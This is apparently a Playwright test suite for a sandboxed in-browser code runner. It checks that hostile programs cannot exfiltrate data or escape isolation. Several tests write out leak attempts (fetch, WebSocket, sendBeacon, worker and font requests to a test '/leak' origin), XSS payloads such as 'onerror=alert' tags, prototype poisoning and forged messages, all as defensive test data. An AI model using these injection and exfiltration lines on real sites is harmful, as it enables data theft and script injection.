/**
 * What a hostile program may try. The second origin counts every request that reaches it; the
 * page's own origin must not be asked for anything either.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import {
  finished,
  type Opened,
  open,
  printed,
  read,
  ready,
  runProgram,
  useSite,
  write,
} from "./browser";

const site = useSite();

/** Runs lines of the form `name: expression` and gives what became of each. */
async function attempts(
  page: Page,
  lines: Record<string, string>,
): Promise<Record<string, string>> {
  const body = Object.entries(lines).map(
    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
  );
  await runProgram(
    page,
    `import { print } from "cotangent";
const attempt = async (name, action) => {
  const patience = new Promise((resolve) => setTimeout(() => resolve("silence"), 700));
  let result;
  try { result = await Promise.race([action(), patience]); } catch (error) { result = "threw"; }
  print(name + "=" + String(result));
};
${body.join("\n")}
`,
  );
  const found = await printed(page);
  return Object.fromEntries(found.split("\n").map((line) => line.split("=", 2)));
}

async function unhurt({ page, complaints }: Opened): Promise<void> {
  await write(page, 'import { print } from "cotangent";\nprint("fine");\n');
  await page.keyboard.press("Control+Enter");
  await page.locator(".printed", { hasText: /^fine$/ }).waitFor();
  assert.deepEqual(
    complaints.filter(
      (text) => !/Content Security Policy|Refused|violates|ERR_|Failed to load/.test(text),
    ),
    [],
  );
}

test("A1, A2: no request leaves the sandbox, to anywhere, by any means", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  const before = site().requests.length;
  for (const target of [site().elsewhere, new URL(site().url).origin]) {
    const url = JSON.stringify(`${target}/leak`);
    const nested = JSON.stringify(
      `fetch(${url}).catch(() => {}); try { importScripts(${url}) } catch {}`,
    );
    const found = await attempts(page, {
      fetch: `await fetch(${url}, { mode: "no-cors" }); return "sent";`,
      xhr: `const x = new XMLHttpRequest(); x.open("GET", ${url}, false); x.send(); return "sent";`,
      socket: `return await new Promise((done) => { const s = new WebSocket(${url}.replace("http", "ws")); s.onopen = () => done("sent"); s.onerror = () => done("refused"); });`,
      events: `return await new Promise((done) => { const s = new EventSource(${url}); s.onopen = () => done("sent"); s.onerror = () => done("refused"); });`,
      scripts: `importScripts(${url}); return "sent";`,
      module: `await (0, eval)("import(" + JSON.stringify(${url}) + ")"); return "sent";`,
      beacon: `return navigator.sendBeacon ? (navigator.sendBeacon(${url}), "called") : "none";`,
      blobWorker: `const w = new Worker(URL.createObjectURL(new Blob([${nested}]))); return await new Promise((done) => setTimeout(done, 300, "started"));`,
      dataWorker: `new Worker("data:text/javascript," + encodeURIComponent(${nested})); return "started";`,
      transport: `const t = new WebTransport(${url}.replace("http:", "https:")); await t.ready; return "sent";`,
      font: `const f = new FontFace("x", "url(" + ${url} + ")"); await f.load(); return "sent";`,
    });
    for (const [name, result] of Object.entries(found)) assert.notEqual(result, "sent", name);
    assert.equal(Object.keys(found).length, 11);
  }
  await page.waitForTimeout(300);
  assert.deepEqual(site().hits, []);
  assert.deepEqual(site().requests.slice(before), []);
  await unhurt(opened);
  await context.close();
});

test("A3, A6: the host's storage, windows and channels are out of reach", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(globalThis, { heard });
    new BroadcastChannel("leak").onmessage = (event) => heard.push(event.data);
    addEventListener("message", (event) => heard.push(event.data));
  });
  const found = await attempts(page, {
    parent: `return typeof parent;`,
    top: `return typeof top;`,
    document: `return typeof document;`,
    rtc: `return typeof RTCPeerConnection;`,
    local: `return typeof localStorage;`,
    indexed: `return await new Promise((done, fail) => { const r = indexedDB.open("x"); r.onsuccess = () => done("opened"); r.onerror = fail; });`,
    caches: `await caches.open("x"); return "opened";`,
    cookies: `return typeof cookieStore === "undefined" ? "undefined" : String(await cookieStore.getAll());`,
    origin: `return self.origin;`,
    broadcast: `new BroadcastChannel("leak").postMessage("from the sandbox"); return "spoken";`,
    shared: `new SharedWorker(URL.createObjectURL(new Blob(["1"]))); return "started";`,
    open: `return typeof open;`,
    alert: `return typeof alert;`,
  });
  for (const name of ["parent", "top", "document", "rtc", "local", "open", "alert"]) {
    assert.equal(found[name], "undefined", name);
  }
  for (const name of ["indexed", "caches", "shared"]) assert.notEqual(found[name], "opened", name);
  assert.equal(found.origin, "null");
  assert.deepEqual(
    await page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard),
    [],
  );
  await unhurt(opened);
  await context.close();
});

test("A7: forged messages and spoiled built-ins change nothing on the page", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await runProgram(
    page,
    `import { print } from "cotangent";
self.postMessage({ kind: "ready" });
self.postMessage({ kind: "done", report: { ok: true } });
self.postMessage("ready");
const ports = [];
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) { ports.push(this); return original.apply(this, args); };
JSON.stringify = () => "forged";
Array.prototype.push = function () { return 0; };
Object.defineProperty(Object.prototype, "kind", { set() {}, get() { return "forged"; }, configurable: true });
Promise.prototype.then = function () { return this; };
self.onmessage = null;
for (const port of ports) original.call(port, { nonce: "guess", json: '{"kind":"broken","detail":"forged"}' });
`,
  ).catch(() => "never ended, which harms itself alone");
  const stop = page.getByRole("button", { name: "Stop" });
  if (await stop.isVisible()) await stop.click();
  assert.equal(await page.locator(".views, .status, .banner").getByText("forged").count(), 0);
  await unhurt(opened);
  await context.close();
});

test("A8: Run pressed fifty times runs one program; a stopped one is not heard again", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await write(
    page,
    `import { print } from "cotangent";
setInterval(() => print("late"), 5);
print("first");
await new Promise((resolve) => setTimeout(resolve, 60000));
`,
  );
  for (let i = 0; i < 50; i += 1) await page.keyboard.press("Control+Enter");
  await page.locator(".printed", { hasText: "first" }).waitFor();
  assert.equal((await printed(page)).match(/first/g)?.length, 1);
  await page.getByRole("button", { name: "Stop" }).click();
  assert.match(await finished(page), /^Stopped/);
  const kept = await printed(page);
  await page.waitForTimeout(200);
  assert.equal(await printed(page), kept);
  await write(page, 'import { print } from "cotangent";\nprint("second");\n');
  await page.keyboard.press("Control+Enter");
  await page.locator(".printed", { hasText: /^second$/ }).waitFor();
  await context.close();
});

test("A8: Stop during the start of the engine", async () => {
  const { page, context } = await open(site());
  await page.keyboard.press("Control+Enter");
  const stop = page.getByRole("button", { name: "Stop" });
  await stop.click({ timeout: 2_000 }).catch(() => undefined);
  await finished(page);
  await runProgram(page, 'import { print } from "cotangent";\nprint("well");\n');
  assert.equal(await printed(page), "well");
  await context.close();
});

const loops: Record<string, string> = {
  "a bare loop": "while (true) {}",
  "a callback":
    'import { bufferCallback, ShapeDtypeStruct, np } from "cotangent";\nconst f = bufferCallback(() => { while (true) {} }, ShapeDtypeStruct([1], "float32"));\nf(np.zeros([1]));',
  "a toString":
    'import { print } from "cotangent";\nprint({ toString() { for (;;) {} }, toJSON() { for (;;) {} }, get a() { for (;;) {} } }); for (;;) {}',
  "a catastrophic regular expression": '/^(a+)+$/.test("a".repeat(40) + "b"); for (;;) {}',
  "endless promises":
    "const f = () => Promise.resolve().then(f);\nawait f();\nawait new Promise(() => {});",
  "endless asynchrony": "for (;;) await new Promise((resolve) => setTimeout(resolve, 0));",
};
for (const [name, source] of Object.entries(loops)) {
  test(`A9: Stop ends ${name} within a second, and the page stays quick`, async () => {
    const { page, context } = await open(site());
    await ready(page);
    await write(page, source);
    await page.keyboard.press("Control+Enter");
    await page.getByRole("button", { name: "Stop" }).waitFor();
    await page.waitForTimeout(250);
    const taken = await page.evaluate(async () => {
      const began = performance.now();
      await new Promise((resolve) => setTimeout(resolve, 0));
      const latency = performance.now() - began;
      const button = document.querySelector<HTMLElement>(".toolbar .button-stop");
      const pressed = performance.now();
      button?.click();
      while (document.querySelector(".toolbar .button-stop"))
        await new Promise((resolve) => setTimeout(resolve, 5));
      return { latency, stop: performance.now() - pressed };
    });
    assert.ok(taken.latency < 200, `latency ${taken.latency} ms`);
    assert.ok(taken.stop < 1_000, `stopped after ${taken.stop} ms`);
    assert.equal(await read(page), source);
    await runProgram(page, 'import { print } from "cotangent";\nprint("again");\n');
    assert.equal(await printed(page), "again");
    await context.close();
  });
}

test("A12: floods of output are capped, counted, and do not slow the page", async () => {
  const { page, context } = await open(site());
  await ready(page);
  const source = `import { print } from "cotangent";
for (let i = 0; i < 1e6; i++) print("line", i);
`;
  await runProgram(page, source);
  const note = page.locator(".dropped", { hasText: "lines dropped" });
  await note.waitFor();
  assert.match((await note.textContent()) ?? "", /995,000 more lines dropped/);
  assert.match(await printed(page), /^line 0\nline 1\n/);

  await runProgram(page, 'import { print } from "cotangent";\nprint("x".repeat(200e6));\n');
  assert.ok((await printed(page)).length <= 20_000);
  await page.locator(".dropped", { hasText: "characters dropped" }).waitFor();
  await context.close();
});

test("A13: what a program prints or throws is text, whatever it looks like", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  const evil = `<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>\\u001b[31m</pre>`;
  const source = `import { print, plot } from "cotangent";
print(\`${evil}\`);
plot([{ label: \`${evil}\`, x: [0, 1], y: [0, 1] }], { title: \`${evil}\`, xlabel: \`${evil}\` });
const error = new Error(\`${evil}\`); error.name = \`${evil}\`; throw error;
`;
  const count = () =>
    page.evaluate(
      () => document.querySelectorAll("img, script, svg[onload], object, embed").length,
    );
  const before = await count();
  await write(page, source);
  await page.keyboard.press("Control+Enter");
  await page.locator(".message, .diagnosis-title").first().waitFor();
  assert.equal(await count(), before);
  await page.locator(".views .tab", { hasText: "Output" }).click();
  assert.match(await printed(page), /<img src=x onerror/);
  assert.equal(await count(), before);
  await unhurt(opened);
  await context.close();
});

test("A4, A5: the frame cannot go anywhere, and the host knows only one frame", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  const frame = page.frames().find((candidate) => candidate.url().includes("sandbox.html"));
  assert.ok(frame);
  const elsewhere = site().elsewhere;
  await frame.evaluate((url) => {
    location.href = `${url}/secret`;
  }, elsewhere);
  await page.waitForTimeout(500);
  assert.deepEqual(site().hits, []);
  assert.equal(await page.locator("iframe").count(), 1);
  assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-scripts");
  await unhurt(opened);
  await context.close();
});

test("A23: a frame that is gone is replaced, the text is kept, and the next run works", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await write(page, "await new Promise(() => {});");
  await page.keyboard.press("Control+Enter");
  await page.getByRole("button", { name: "Stop" }).waitFor();
  const frame = page.frames().find((candidate) => candidate.url().includes("sandbox.html"));
  await frame?.evaluate(() => location.reload());
  assert.match(await finished(page), /^The engine failed/);
  assert.equal(await read(page), "await new Promise(() => {});");
  await unhurt(opened);
  await context.close();
});

test("A23: a frame that does not answer Stop is replaced", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await write(page, "await new Promise(() => {});");
  await page.keyboard.press("Control+Enter");
  const stop = page.getByRole("button", { name: "Stop" });
  await stop.waitFor();
  await page.evaluate(() => document.querySelector("iframe")?.setAttribute("data-old", ""));
  const frame = page.frames().find((candidate) => candidate.url().includes("sandbox.html"));
  void frame
    ?.evaluate(() =>
      setTimeout(() => {
        for (const end = Date.now() + 3_000; Date.now() < end; );
      }, 50),
    )
    .catch(() => undefined);
  await page.waitForTimeout(150);
  await stop.click();
  assert.match(await finished(page), /^Stopped/);
  await unhurt(opened);
  assert.equal(await page.locator("iframe[data-old]").count(), 0);
  await context.close();
});

test("A23: a frame that went silent during a run is noticed and replaced", async () => {
  const opened = await open(site());
  const { page, context } = opened;
  await ready(page);
  await write(page, "await new Promise(() => {});");
  await page.keyboard.press("Control+Enter");
  await page.getByRole("button", { name: "Stop" }).waitFor();
  const frame = page.frames().find((candidate) => candidate.url().includes("sandbox.html"));
  const block = () =>
    setTimeout(() => {
      for (const end = Date.now() + 20_000; Date.now() < end; );
    }, 20);
  void frame?.evaluate(block).catch(() => undefined);
  assert.match(await finished(page), /^The engine failed/);
  await page.getByText("went silent").waitFor();
  await unhurt(opened);
  await context.close();
});
